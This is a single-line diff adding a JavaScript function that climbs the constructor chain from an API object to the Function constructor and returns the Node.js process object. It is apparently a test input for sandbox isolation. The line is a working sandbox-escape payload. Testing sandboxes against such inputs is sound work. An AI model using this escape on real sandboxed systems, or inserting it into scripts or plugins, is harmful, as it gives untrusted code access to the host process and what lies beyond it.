@@ -1,0 +1,1 @@
+(api) => api.currentUser.constructor.constructor('return process')()
